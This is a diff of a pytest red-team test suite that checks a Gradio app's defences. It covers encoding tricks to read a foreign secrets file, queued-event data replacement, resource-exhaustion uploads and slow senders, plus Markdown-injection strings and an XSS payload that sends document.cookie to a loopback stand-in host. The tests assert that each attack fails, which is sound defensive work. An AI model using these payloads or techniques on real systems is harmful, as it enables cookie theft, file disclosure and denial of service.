@@ -1,6 +1,7 @@
 """The red team's findings (issue 10) against a running app, and what an attacker tries next.
 
-Each test names the finding it covers (F1 … F9). The session app (`app_url`) serves the default
+Grouped by what they check: the gate, one file per call, wide files, slow senders, disk, ids,
+Markdown in the summary, smaller ones, servers on their own bundles. The session app (`app_url`) serves the default
 bundle; `tight_url` runs with small caps and a short body deadline; two more servers serve a
 tampered and a broken bundle; one test builds the app in process without the gate. All traffic
 goes to 127.0.0.1, in loops that stop by themselves."""
@@ -9,7 +10,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-import os
 import shutil
 import socket
 import threading
@@ -20,73 +20,13 @@ from urllib.parse import urlsplit
 import httpx
 import pytest
 
+from tests.redteam import customers, fn_index, log_tracebacks, ref, rss_mb, served, server_pid, upload
 from tests.server import running_app
 from tests.surfaces import assert_clear, assert_no_leak, gradio_call
 
 SECRET_HEADER = "db_password,api_key"
 TIGHT_ENV = {"MAX_UPLOAD_BYTES": "300000", "MAX_UPLOAD_REQUEST_BYTES": "400000", "BODY_TIMEOUT_S": "1",
-             "MAX_BATCH_DISK_BYTES": "200000", "JSON_CONCURRENCY": "2"}
-
-
-# -- helpers -------------------------------------------------------------------------------------
-def upload(base: str, data: bytes, name: str = "customers.csv") -> str:
-    r = httpx.post(base + "/gradio_api/upload", files={"files": (name, data, "text/csv")}, timeout=30)
-    assert r.status_code == 200, r.text[:300]
-    return r.json()[0]
-
-
-def ref(path: str) -> dict:
-    return {"path": path, "meta": {"_type": "gradio.FileData"}}
-
-
-def served(base: str, path: str) -> bytes:
-    r = httpx.get(f"{base}/gradio_api/file={path}", timeout=30)
-    assert r.status_code == 200, (path, r.status_code)
-    return r.content
-
-
-def customers(predictor, n: int, *, tag: str, id_header: str = "id") -> bytes:
-    ex = predictor.schema.example()
-    buf = io.StringIO()
-    w = csv.writer(buf, lineterminator="\n")
-    w.writerow([id_header, *ex])
-    for i in range(n):
-        w.writerow([f"{tag}-{i}", *ex.values()])
-    return buf.getvalue().encode()
-
-
-def fn_index(base: str, api_name: str) -> int:
-    return next(d["id"] for d in httpx.get(base + "/config").json()["dependencies"] if d.get("api_name") == api_name)
-
-
-def server_pid(base: str) -> int:
-    """The pid of the process listening on `base`'s port (from /proc, Linux)."""
-    port = urlsplit(base).port
-    inodes = set()
-    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
-        with open(table) as fh:
-            for line in fh.readlines()[1:]:
-                parts = line.split()
-                if int(parts[1].rsplit(":", 1)[1], 16) == port and parts[3] == "0A":
-                    inodes.add(parts[9])
-    for pid in filter(str.isdigit, os.listdir("/proc")):
-        try:
-            for fd in os.listdir(f"/proc/{pid}/fd"):
-                if os.readlink(f"/proc/{pid}/fd/{fd}") in {f"socket:[{i}]" for i in inodes}:
-                    return int(pid)
-        except OSError:
-            continue
-    raise AssertionError(f"nobody listens on port {port}")
-
-
-def rss_mb(pid: int) -> float:
-    with open(f"/proc/{pid}/status") as fh:
-        line = next(x for x in fh if x.startswith("VmRSS:"))
-    return int(line.split()[1]) / 1024
-
-
-def log_tracebacks(log: Path) -> int:
-    return log.read_text(errors="replace").count("Traceback")
+             "MAX_DISK_BYTES_PER_CLIENT": "200000", "JSON_CONCURRENCY": "2"}
 
 
 @pytest.fixture(scope="module")
@@ -102,7 +42,7 @@ def secret_csv(tmp_path) -> Path:
     return path
 
 
-# -- F1: the gate sees what the server parses -----------------------------------------------------
+# -- the gate sees what the server parses -----------------------------------------------------
 ENCODINGS = ["utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"]
 ROUTES = ["call/predict_batch", "call/v2/predict_batch", "queue/join", "call/predict"]
 
@@ -117,7 +57,7 @@ def _body(route: str, path: str) -> dict:
 
 @pytest.mark.parametrize("encoding", ENCODINGS)
 @pytest.mark.parametrize("route", ROUTES)
-def test_f1_bodies_that_are_not_plain_utf8_json_are_refused(route, encoding, app_url, secret_csv):
+def test_bodies_that_are_not_plain_utf8_json_are_refused(route, encoding, app_url, secret_csv):
     body = json.dumps(_body(route, str(secret_csv))).encode(encoding)
     r = httpx.post(f"{app_url}/gradio_api/{route}", content=body, headers={"content-type": "application/json"})
     assert r.status_code == 400, (r.status_code, r.text[:300])
@@ -130,13 +70,13 @@ def test_f1_bodies_that_are_not_plain_utf8_json_are_refused(route, encoding, app
     b'\x00{\x00"\x00d\x00a\x00t\x00a\x00"\x00:\x00[\x00]\x00}',  # UTF-16-BE that is also valid UTF-8
     b'{"data": [1]} trailing', b"[" * 5000 + b"]" * 5000,
 ], ids=["surrogate", "latin1", "utf16be_ascii", "trailing_garbage", "deep_nesting"])
-def test_f1_other_bytes_the_gate_cannot_read_are_refused(body, app_url):
+def test_other_bytes_the_gate_cannot_read_are_refused(body, app_url):
     r = httpx.post(f"{app_url}/gradio_api/call/segment_plot", content=body,
                    headers={"content-type": "application/json"})
     assert r.status_code == 400 and "JSON" in r.json()["error"], r.text[:300]
 
 
-def test_f1_no_encoding_trick_scores_a_foreign_file(app_url, secret_csv):
+def test_no_encoding_trick_scores_a_foreign_file(app_url, secret_csv):
     """The original exploit, end to end: nothing comes back that was read from the file."""
     for encoding in ENCODINGS:
         body = json.dumps({"data": [ref(str(secret_csv))]}).encode(encoding)
@@ -149,7 +89,7 @@ def test_f1_no_encoding_trick_scores_a_foreign_file(app_url, secret_csv):
 
 
 @pytest.mark.parametrize("depth", [21, 60])
-def test_f1_deeply_nested_file_references_are_refused(depth, app_url, secret_csv):
+def test_deeply_nested_file_references_are_refused(depth, app_url, secret_csv):
     """Gradio copies every file reference in an input into its cache, at any depth; the gate
     looked 20 levels deep, so a 21-deep reference in a dropdown value was copied and its new
     path echoed back, readable through /gradio_api/file=."""
@@ -161,7 +101,7 @@ def test_f1_deeply_nested_file_references_are_refused(depth, app_url, secret_csv
     assert "hunter2" not in text and "/gradio/" not in text
 
 
-def test_f1_file_references_only_where_a_file_goes(app_url, predictor):
+def test_file_references_only_where_a_file_goes(app_url, predictor):
     path = upload(app_url, customers(predictor, 2, tag="x"))
     for api, data in [("segment_plot", [ref(path)]), ("segment_plot", [[ref(path)]]),
                       ("predict_batch", [[ref(path)]]), ("predict_batch", [{"x": ref(path)}])]:
@@ -175,13 +115,13 @@ def test_f1_file_references_only_where_a_file_goes(app_url, predictor):
                                    {"path": 7, "meta": {"_type": "gradio.FileData"}}],
                          ids=["meta_string", "meta_list", "nul_in_path", "path_number"])
 @pytest.mark.parametrize("api", ["predict_batch", "segment_plot"])
-def test_f1_malformed_file_references_get_a_clear_4xx(api, value, app_url):
+def test_malformed_file_references_get_a_clear_4xx(api, value, app_url):
     kind, text = gradio_call(app_url, api, [value])
     assert kind in ("http 400", "http 403", "http 422"), (kind, str(text)[:300])
     assert_clear(json.loads(text)["error"])
 
 
-def test_f1_foreign_files_elsewhere_in_the_body_and_scored_outputs_are_refused(app_url, predictor, secret_csv):
+def test_foreign_files_elsewhere_in_the_body_and_scored_outputs_are_refused(app_url, predictor, secret_csv):
     body = {"data": ["age"], "fn_index": fn_index(app_url, "segment_plot"), "session_hash": "s",
             "event_data": {"x": [ref(str(secret_csv))]}}
     r = httpx.post(app_url + "/gradio_api/queue/join", json=body)
@@ -195,7 +135,7 @@ def test_f1_foreign_files_elsewhere_in_the_body_and_scored_outputs_are_refused(a
 
 @pytest.mark.parametrize("ctype", ["text/plain", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded",
                                    None])
-def test_f1_other_content_types_never_reach_a_handler(ctype, app_url, secret_csv):
+def test_other_content_types_never_reach_a_handler(ctype, app_url, secret_csv):
     """The gate passes form posts through unparsed; FastAPI parses JSON only for JSON types."""
     headers = {"content-type": ctype} if ctype else {}
     r = httpx.post(app_url + "/gradio_api/call/predict_batch", headers=headers,
@@ -204,7 +144,7 @@ def test_f1_other_content_types_never_reach_a_handler(ctype, app_url, secret_csv
     assert "hunter2" not in r.text and SECRET_HEADER not in r.text
 
 
-def test_f1_stream_and_component_server_routes_are_closed(app_url, predictor, secret_csv):
+def test_stream_and_component_server_routes_are_closed(app_url, predictor, secret_csv):
     """This app has no streaming inputs and no component server functions: POST /stream/<event>
     would replace a queued event's data (a way round the gate), /component_server answered 500."""
     r = httpx.post(app_url + "/gradio_api/stream/anything", json={"data": [], "session_hash": "s"})
@@ -217,7 +157,7 @@ def test_f1_stream_and_component_server_routes_are_closed(app_url, predictor, se
     assert r.status_code == 404, r.text[:300]
 
 
-def test_f1_a_queued_event_cannot_get_its_data_replaced(app_url, predictor, secret_csv):
+def test_a_queued_event_cannot_get_its_data_replaced(app_url, predictor, secret_csv):
     """Found while testing the gate: POST /stream/<event id> replaced a queued event's data after
     the gate had checked it, so a foreign file was scored. Busy workers keep the victim queued."""
     busy = upload(app_url, customers(predictor, 100_000, tag="busy"))
@@ -232,7 +172,7 @@ def test_f1_a_queued_event_cannot_get_its_data_replaced(app_url, predictor, secr
     assert "event: complete" in stream and "db_password" not in stream and "hunter2" not in stream
 
 
-def test_f1_batch_handler_checks_its_file_without_the_gate(secret_csv, predictor):
+def test_batch_handler_checks_its_file_without_the_gate(secret_csv, predictor):
     """Defence in depth, in process: the gate removed, a foreign path reaches predict_batch,
     which refuses it without reading it (so the file's header is not echoed)."""
     from fastapi.testclient import TestClient
@@ -257,8 +197,8 @@ def upload_in_process(client, data: bytes) -> str:
     return client.post("/gradio_api/upload", files={"files": ("c.csv", data, "text/csv")}).json()[0]
 
 
-# -- F2: every call its own file -------------------------------------------------------------------
-def test_f2_concurrent_same_name_uploads_get_their_own_rows(app_url, predictor):
+# -- every call its own file -------------------------------------------------------------------
+def test_concurrent_same_name_uploads_get_their_own_rows(app_url, predictor):
     visitors = 12
     paths = [upload(app_url, customers(predictor, 300 + i, tag=f"v{i}")) for i in range(visitors)]
     answers: dict[int, object] = {}
@@ -280,8 +220,8 @@ def test_f2_concurrent_same_name_uploads_get_their_own_rows(app_url, predictor):
     assert len(outputs) == visitors and len({Path(p).parent for p in outputs}) == visitors
 
 
-# -- F3: wide files --------------------------------------------------------------------------------
-def test_f3_a_very_wide_file_is_refused_before_parsing(app_url, predictor):
+# -- wide files --------------------------------------------------------------------------------
+def test_a_very_wide_file_is_refused_before_parsing(app_url, predictor):
     """The red team's file: the schema's columns and 400,000 more, ~3.5 MB, took 36 s and 3.4 GB."""
     pid = server_pid(app_url)
     before = rss_mb(pid)
@@ -296,8 +236,8 @@ def test_f3_a_very_wide_file_is_refused_before_parsing(app_url, predictor):
     assert grown < 300, f"RSS grew {grown:.0f} MB for one wide upload"
 
 
-# -- F4: slow senders cost a socket, not a worker ---------------------------------------------------
-def test_f4_idle_sockets_do_not_deny_the_json_route(tight_url, predictor):
+# -- slow senders cost a socket, not a worker ---------------------------------------------------
+def test_idle_sockets_do_not_deny_the_json_route(tight_url, predictor):
     host, port = urlsplit(tight_url).hostname, urlsplit(tight_url).port
     idle = []
     try:
@@ -316,7 +256,7 @@ def test_f4_idle_sockets_do_not_deny_the_json_route(tight_url, predictor):
             s.close()
 
 
-def test_f4_a_body_that_never_arrives_gets_408_on_both_doors(tight_url):
+def test_a_body_that_never_arrives_gets_408_on_both_doors(tight_url):
     host, port = urlsplit(tight_url).hostname, urlsplit(tight_url).port
     for path in ("/predict", "/gradio_api/call/predict", "/gradio_api/queue/join"):
         with socket.create_connection((host, port), timeout=15) as s:
@@ -326,7 +266,7 @@ def test_f4_a_body_that_never_arrives_gets_408_on_both_doors(tight_url):
         assert answer.startswith("HTTP/1.1 408"), (path, answer[:200])
 
 
-def test_f4_a_stalled_upload_is_cut_off(tight_url, artifacts_dir):
+def test_a_stalled_upload_is_cut_off(tight_url, artifacts_dir):
     """An upload that stops sending holds a socket and a parser; after 3 x BODY_TIMEOUT_S without a
     byte it gets 408, and nothing is logged as a crash."""
     host, port = urlsplit(tight_url).hostname, urlsplit(tight_url).port
@@ -347,7 +287,7 @@ def test_f4_a_stalled_upload_is_cut_off(tight_url, artifacts_dir):
     ("application/json", 200), ("application/json; charset=utf-8", 200), ("Application/JSON", 200),
     ("application/vnd.api+json", 200), ("application/merge-patch+json; charset=utf-8", 200),
 ])
-def test_f4_json_route_takes_only_json_content_types(ctype, status, app_url, predictor):
+def test_json_route_takes_only_json_content_types(ctype, status, app_url, predictor):
     headers = {"content-type": ctype} if ctype else {}
     r = httpx.post(app_url + "/predict", content=json.dumps(predictor.schema.example()), headers=headers)
     assert r.status_code == status, (ctype, r.text[:200])
@@ -355,9 +295,9 @@ def test_f4_json_route_takes_only_json_content_types(ctype, status, app_url, pre
         assert "application/json" in r.json()["error"]
 
 
-# -- F5: disk ---------------------------------------------------------------------------------------
-def test_f5_batch_output_stays_within_the_disk_budget(tight_url, predictor):
-    """MAX_BATCH_DISK_BYTES=200000; each scored file here is ~60 kB."""
+# -- disk ---------------------------------------------------------------------------------------
+def test_batch_output_stays_within_the_disk_budget(tight_url, predictor):
+    """MAX_DISK_BYTES_PER_CLIENT=200000 (uploads and scored files); each scored file here is ~60 kB."""
     folders, sizes = set(), []
     for i in range(8):
         path = upload(tight_url, customers(predictor, 400, tag=f"d{i}"))
@@ -373,7 +313,7 @@ def test_f5_batch_output_stays_within_the_disk_budget(tight_url, predictor):
     assert len(list(root.glob("call-*/*.csv"))) < 8  # the oldest were evicted
 
 
-def test_f5_uploads_have_a_total_per_request(tight_url):
+def test_uploads_have_a_total_per_request(tight_url):
     three = [("files", (f"p{i}.csv", b"age\n" + b"1\n" * 100_000, "text/csv")) for i in range(3)]  # 600 kB
     r = httpx.post(tight_url + "/gradio_api/upload", files=three, timeout=30)
     assert r.status_code == 413 and "400,000" in r.text, r.text[:300]
@@ -387,9 +327,9 @@ def test_f5_uploads_have_a_total_per_request(tight_url):
     assert r.status_code == 200
 
 
-# -- F6: ids ----------------------------------------------------------------------------------------
+# -- ids ----------------------------------------------------------------------------------------
 @pytest.mark.parametrize("header", ["ID", "Id", " id ", "iD"])
-def test_f6_id_column_is_matched_like_the_features(header, app_url, predictor):
+def test_id_column_is_matched_like_the_features(header, app_url, predictor):
     path = upload(app_url, customers(predictor, 5, tag="c", id_header=header))
     kind, out = gradio_call(app_url, "predict_batch", [ref(path)])
     assert kind == "complete", out
@@ -397,8 +337,8 @@ def test_f6_id_column_is_matched_like_the_features(header, app_url, predictor):
     assert [r["id"] for r in rows] == [f"c-{i}" for i in range(5)]
 
 
-# -- F8: Markdown in the summary ---------------------------------------------------------------------
-def test_f8_cells_cannot_inject_markdown_into_the_summary(app_url, predictor):
+# -- Markdown in the summary ---------------------------------------------------------------------
+def test_cells_cannot_inject_markdown_into_the_summary(app_url, predictor):
     from markdown_it import MarkdownIt
     names = list(predictor.schema.example())
     cat = predictor.schema.categorical[0].name
@@ -409,7 +349,7 @@ def test_f8_cells_cannot_inject_markdown_into_the_summary(app_url, predictor):
     w.writerow(names)
     for p in payloads:
         w.writerow([p if n == cat else v for n, v in predictor.schema.example().items()])
-    kind, out = gradio_call(app_url, "predict_batch", [ref(upload(app_url, buf.getvalue().encode()))])
+    kind, out = gradio_call(app_url, "score_file", [ref(upload(app_url, buf.getvalue().encode()))])  # the page's event
     assert kind == "complete", out
     assert "://" not in out[1]  # nothing left for a renderer that links bare URLs (GFM autolinks)
     html = MarkdownIt("commonmark").enable("table").render(out[1])
@@ -419,7 +359,7 @@ def test_f8_cells_cannot_inject_markdown_into_the_summary(app_url, predictor):
 
 @pytest.mark.parametrize("text", ["![x](http://127.0.0.1:9/p.png)", "[a](javascript:alert(1))", "<b>x</b>",
                                   "www.example.com", "line\n# heading", "a | b", "&lt;img&gt;", "\\*x*", "~~s~~"])
-def test_f8_summary_text_renders_as_literal_text(text):
+def test_summary_text_renders_as_literal_text(text):
     from markdown_it import MarkdownIt
 
     from space.render.pages import batch_summary
@@ -431,8 +371,8 @@ def test_f8_summary_text_renders_as_literal_text(text):
     assert html.count("<td") == 2  # the table keeps its two columns
 
 
-# -- F9: smaller ones -----------------------------------------------------------------------------
-def test_f9_upload_without_a_file_name_is_a_4xx(app_url):
+# -- smaller ones -----------------------------------------------------------------------------
+def test_upload_without_a_file_name_is_a_4xx(app_url):
     r = httpx.post(app_url + "/gradio_api/upload", files={"files": ("", b"age\n1\n", "text/csv")})  # was a 500
     assert r.status_code == 400 and "file name" in r.text, r.text[:300]
     for disposition, status in [('name="files"', 400), ('name="files"; filename=""', 200)]:
@@ -443,7 +383,7 @@ def test_f9_upload_without_a_file_name_is_a_4xx(app_url):
         assert r.status_code == status, (disposition, r.text[:300])  # an empty name: Gradio makes one up
 
 
-def test_f9_unknown_sessions_do_not_flood_the_log(tight_url, artifacts_dir):
+def test_unknown_sessions_do_not_flood_the_log(tight_url, artifacts_dir):
     log = artifacts_dir / "app-tight.log"
     before = log_tracebacks(log)
     for path in ["/gradio_api/queue/data?session_hash=nope", "/gradio_api/call/predict/0123456789abcdef",
@@ -457,7 +397,7 @@ def test_f9_unknown_sessions_do_not_flood_the_log(tight_url, artifacts_dir):
 
 
 @pytest.mark.parametrize("api", ["segment_plot", "data_plot"])
-def test_f9_plots_do_not_echo_huge_values(api, app_url):
+def test_plots_do_not_echo_huge_values(api, app_url):
     kind, text = gradio_call(app_url, api, ["x" * 60_000])
     message = json.loads(text)["error"] if kind.startswith("http") else text
     assert kind in ("http 422", "error") and len(message) < 700, (kind, len(str(message)))
@@ -470,13 +410,13 @@ def test_f9_plots_do_not_echo_huge_values(api, app_url):
     ("call/v2/predict_batch", {"file": "/tmp/gradio/x.csv"}),
     ("call/v2/predict_batch", {}),
 ], ids=["empty_data", "v2_no_meta", "v2_string", "v2_missing"])
-def test_f9_batch_calls_without_a_proper_file_name_the_field(route, body, app_url):
+def test_batch_calls_without_a_proper_file_name_the_field(route, body, app_url):
     r = httpx.post(f"{app_url}/gradio_api/{route}", json=body)
     assert r.status_code == 422, r.text[:300]
     assert_clear(r.json()["error"], field="file")
 
 
-# -- F5, F7, F9: servers on their own bundles ------------------------------------------------------
+# -- servers on their own bundles ------------------------------------------------------
 XSS = '<img src=x onerror="fetch(`//127.0.0.1:9/`+document.cookie)">'
 
 
@@ -493,7 +433,7 @@ def tampered_bundle(default_bundle, tmp_path_factory):
     return out
 
 
-def test_f5_f7_tampered_bundle_is_escaped_and_batch_files_go_at_shutdown(tampered_bundle, tmp_path, artifacts_dir,
+def test_tampered_bundle_is_escaped_and_batch_files_go_at_shutdown(tampered_bundle, tmp_path, artifacts_dir,
                                                                          predictor):
     cache = tmp_path / "gradio-cache"
     orphan = cache / "segments-batch-orphan"  # left by a server that was killed
@@ -520,7 +460,7 @@ def test_f5_f7_tampered_bundle_is_escaped_and_batch_files_go_at_shutdown(tampere
     assert not root.exists() and not scored.exists()
 
 
-def test_f9_bad_model_dir_falls_back_to_the_default_and_says_why(default_bundle, tmp_path, artifacts_dir):
+def test_bad_model_dir_falls_back_to_the_default_and_says_why(default_bundle, tmp_path, artifacts_dir):
     """A 171 MB summary.json (sparse: no disk used) is refused by size before it is hashed or
     parsed; the app serves the embedded default bundle and says why."""
     bad = tmp_path / "bad"
@@ -535,7 +475,7 @@ def test_f9_bad_model_dir_falls_back_to_the_default_and_says_why(default_bundle,
         assert "summary.json" in httpx.get(url + "/config").text  # the banner
 
 
-def test_f9_bundle_json_files_are_capped_before_hashing_or_parsing(default_bundle, tmp_path, monkeypatch):
+def test_bundle_json_files_are_capped_before_hashing_or_parsing(default_bundle, tmp_path, monkeypatch):
     import model.contract.bundle
     from model.contract.errors import BundleError
     bad = tmp_path / "b"
@@ -551,7 +491,7 @@ def test_f9_bundle_json_files_are_capped_before_hashing_or_parsing(default_bundl
         model.contract.bundle.read_manifest(bad)
 
 
-def test_f9_a_bad_model_dir_falls_back_in_the_loader(tmp_path):
+def test_a_bad_model_dir_falls_back_in_the_loader(tmp_path):
     from space.loader import load_live
     from space.settings import load_settings
     (tmp_path / "nothing").mkdir()
@@ -561,7 +501,7 @@ def test_f9_a_bad_model_dir_falls_back_in_the_loader(tmp_path):
     assert str(tmp_path) not in live.source.fallback_reason
 
 
-def test_f7_a_manifest_with_a_non_integer_k_is_refused_and_the_default_served(default_bundle, tmp_path):
+def test_a_manifest_with_a_non_integer_k_is_refused_and_the_default_served(default_bundle, tmp_path):
     """The typed manifest refuses a k that is no integer (here, HTML): it never reaches a page."""
     from space.loader import load_live
     from space.settings import load_settings
